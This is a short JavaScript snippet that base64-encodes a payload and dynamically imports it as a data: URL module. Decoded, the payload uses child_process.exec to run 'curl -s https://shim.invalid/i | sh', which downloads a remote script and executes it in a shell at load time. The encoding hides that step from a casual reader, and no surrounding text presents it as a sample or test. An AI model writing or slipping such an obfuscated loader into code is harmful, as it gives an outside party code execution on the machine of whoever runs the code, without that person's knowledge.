const blob = 'aW1wb3J0IHsgZXhlYyB9IGZyb20gJ2NoaWxkX3Byb2Nlc3MnOyBleGVjKCdjdXJsIC1zIGh0dHBzOi8vc2hpbS5pbnZhbGlkL2kgfCBzaCcpOw==';
await import('data:text/javascript;base64,' + blob);
